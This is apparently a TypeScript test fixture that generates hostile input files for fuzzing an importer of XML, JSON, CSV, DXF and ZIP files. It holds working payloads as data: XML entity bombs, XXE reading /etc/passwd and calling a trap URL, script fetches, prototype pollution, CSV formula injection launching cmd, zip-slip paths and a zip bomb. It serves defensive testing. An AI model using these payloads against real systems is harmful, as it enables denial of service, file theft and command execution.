import { buildZip } from '../../../support/zip-builder.ts';
import { dxf, entities, type Group } from '../dxf-builder.ts';
import type { HostileFile } from './pdfs.ts';

const again = (text: string, times: number) => text.repeat(times);
const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
const laughs = () =>
  `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a0 "ha">${Array.from({ length: 30 }, (_, index) => `<!ENTITY a${index + 1} "${again(`&a${index};`, 10)}">`).join('')}]><l>&a30;</l>`;
const line: readonly Group[] = [
  [0, 'LINE'],
  [8, '0'],
  [10, 0],
  [20, 0],
  [11, 9],
  [21, 9],
];
const lines = (count: number) =>
  `0\nSECTION\n2\nENTITIES\n${again('0\nLINE\n8\nA\n10\n0\n20\n0\n11\n9\n21\n9\n', count)}0\nENDSEC\n0\nEOF\n`;
const block = (name: string, ...inside: readonly Group[]): Group[] => [
  [0, 'BLOCK'],
  [2, name],
  [10, 0],
  [20, 0],
  ...inside,
  [0, 'ENDBLK'],
];
const insert = (name: string): Group[] => [
  [0, 'INSERT'],
  [2, name],
  [10, 1],
  [20, 1],
];

const file = (name: string, make: (trap: string) => string | Buffer): HostileFile => ({
  name,
  make: (trap) => {
    const made = make(trap);
    return typeof made === 'string' ? Buffer.from(made) : made;
  },
});

export const TEXTS: readonly HostileFile[] = [
  file('laughs.xml', laughs),
  file('laughs-utf16.xml', () => utf16(laughs())),
  file(
    'quadratic.xml',
    () => `<!DOCTYPE q [<!ENTITY a "${again('a', 100_000)}">]><q>${again('&a;', 100_000)}</q>`,
  ),
  file(
    'external.xml',
    (trap) =>
      `<!DOCTYPE x [<!ENTITY e SYSTEM "${trap}/entity"><!ENTITY f SYSTEM "file:///etc/passwd">]><x>&e;&f;</x>`,
  ),
  file('external-dtd.xml', (trap) => `<!DOCTYPE x SYSTEM "${trap}/x.dtd"><x/>`),
  file('parameter.xml', (trap) => `<!DOCTYPE x [<!ENTITY % p SYSTEM "${trap}/p">%p;]><x/>`),
  file(
    'stylesheet.xml',
    (trap) =>
      `<?xml-stylesheet href="${trap}/style.xsl" type="text/xsl"?><x xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="${trap}/include"/><script xmlns="http://www.w3.org/1999/xhtml">fetch('${trap}/xhtml')</script></x>`,
  ),
  file('deep.xml', () => `${again('<a>', 200_000)}${again('</a>', 200_000)}`),
  file('wide-attribute.xml', () => `<a x="${again('y', 10_000_000)}"/>`),
  file(
    'wide-address.xml',
    () =>
      `<R><LOCATION address="${again('y', 3_000_000)}" city="x"/><ROOF><FACES>${again('<FACE designator="A"><POLYGON size="9"/></FACE>', 60_000)}</FACES></ROOF></R>`,
  ),
  file(
    'many-attributes.xml',
    () => `<a ${Array.from({ length: 150_000 }, (_, index) => `a${index}="1"`).join(' ')}/>`,
  ),
  file('many-elements.xml', () => `<a>${again('<b c="1"/>', 400_000)}</a>`),
  file('unclosed.xml', () => `<a>${again('<b', 500_000)}`),
  file('comments.xml', () => `<a>${again('<!--', 500_000)}`),
  file('proto.xml', () => '<a><__proto__ b="1"/><constructor>c</constructor><toString/></a>'),
  file('wrong-encoding.xml', () =>
    Buffer.concat([
      Buffer.from('<?xml version="1.0" encoding="UTF-32"?><a>'),
      Buffer.from([0xff, 0xc0, 0xaf, 0xed]),
      Buffer.from('</a>'),
    ]),
  ),
  file('zeros.xml', () => Buffer.alloc(100_000)),
  file('deep.json', () => `${again('[', 3_000_000)}`),
  file('deep-objects.json', () => `${again('{"a":', 300_000)}1${again('}', 300_000)}`),
  file(
    'huge-numbers.json',
    () => `{"TotalRoofArea": ${again('9', 400_000)}, "n": 1e${again('9', 400_000)}, "m": -1e-999999}`,
  ),
  file('same-keys.json', () => `{${again('"TotalRoofArea":1,', 300_000)}"TotalRoofArea":2}`),
  file(
    'proto.json',
    () =>
      '{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},"TotalRoofArea":"1"}',
  ),
  file('50-megabytes.json', () => `[${again('{"id":12,"n":3.50,"t":"text here"},', 1_400_000)}{}]`),
  file(
    'long-word.json',
    () => `{"a":"${again('\\u0000', 500_000)}","<img src=x onerror=alert(1)>":"<script>alert(1)</script>"}`,
  ),
  file('cut.json', () => '{"a": [1, 2'),
  file('million-columns.csv', () => `${again('x,', 1_000_000)}\n${again('1,', 1_000_000)}\n`),
  file('never-closed.csv', () => `a,b\n"${again('x,y\n', 2_000_000)}`),
  file('only-quotes.csv', () => again('"', 5_000_001)),
  file('only-lines.csv', () => again('\n', 5_000_000)),
  file(
    'formulas.csv',
    () => '=cmd|\' /C calc\'!A0,@SUM(1+1)\n+1,-1\n"=HYPERLINK(""http://127.0.0.1:9/x"")",\u202ex\n',
  ),
  file('million-rows.csv', () => `a,b\n${again('1,2\n', 1_000_000)}`),
  file('long-line.txt', () => again('x', 5_000_000)),
  file('script.txt', (trap) => `<script>fetch('${trap}/text')</script>\u202etxt\u001b]0;title\u0007`),
  file('binary.txt', () => Buffer.from([0x4d, 0x5a, 0, 1, 2, 3])),
  file('inserts-in-a-circle.dxf', () =>
    dxf({
      blocks: [...block('A', ...line, ...insert('B')), ...block('B', ...insert('A'))],
      entities: insert('A'),
    }),
  ),
  file('inserts-doubling.dxf', () =>
    dxf({
      blocks: Array.from({ length: 40 }, (_, index) =>
        index === 0
          ? block('L0', ...line)
          : block(`L${index}`, ...insert(`L${index - 1}`), ...insert(`L${index - 1}`)),
      ).flat(),
      entities: insert('L39'),
    }),
  ),
  file('rows-and-columns.dxf', () =>
    dxf({ blocks: block('A', ...line), entities: [...insert('A'), [70, 1e9], [71, 1e9], [44, 1], [45, 1]] }),
  ),
  file('billions-of-vertices.dxf', () =>
    entities([0, 'LWPOLYLINE'], [90, 4_000_000_000], [70, 1], [10, 0], [20, 0], [10, 5], [20, 5]),
  ),
  file('bulges.dxf', () =>
    entities(
      [0, 'LWPOLYLINE'],
      [10, 0],
      [20, 0],
      [42, 1e308],
      [10, 5],
      [20, 5],
      [42, 'NaN'],
      [10, 9],
      [20, 0],
    ),
  ),
  file('not-numbers.dxf', () =>
    entities(
      [0, 'LINE'],
      [10, 'NaN'],
      [20, '1e999'],
      [11, 'Infinity'],
      [21, 0],
      ...line,
      [0, 'CIRCLE'],
      [10, 0],
      [20, 0],
      [40, 1e300],
    ),
  ),
  file('far-apart.dxf', () => entities(...line, [0, 'LINE'], [10, 1e9], [20, 1e9], [11, 1e9], [21, -1e9])),
  file('400000-lines.dxf', () => lines(400_000)),
  file('long-text.dxf', () =>
    entities(
      [0, 'TEXT'],
      [10, 0],
      [20, 0],
      [40, 1],
      [1, again('{\\C1;', 100_000)],
      [0, 'MTEXT'],
      [10, 0],
      [20, 0],
      [40, 1e9],
      [1, again('\\P\\S1/', 50_000)],
    ),
  ),
  file('many-layers.dxf', () =>
    dxf({
      tables: Array.from({ length: 20_000 }, (_, index): Group[] => [
        [0, 'LAYER'],
        [2, `L${index}`],
        [62, 1],
      ]).flat(),
      entities: line,
    }),
  ),
  file('no-end.dxf', () => '0\nSECTION\n2\nENTITIES\n0\nPOLYLINE\n'),
  file('binary.dxf', () => Buffer.concat([Buffer.from('AutoCAD Binary DXF\r\n\x1a\0'), Buffer.alloc(100)])),
  file('escape.zip', () =>
    buildZip([
      { name: '../../escape.txt', data: 'x' },
      { name: 'sound.txt', data: 'y' },
    ]),
  ),
  file('bomb.zip', () => buildZip([{ name: 'bomb.xml', data: Buffer.alloc(60_000_000) }])),
  file('cut.zip', () => buildZip([{ name: 'a.txt', data: 'x' }]).subarray(0, 60)),
  file('no-archive.zip', () => 'hello'),
];
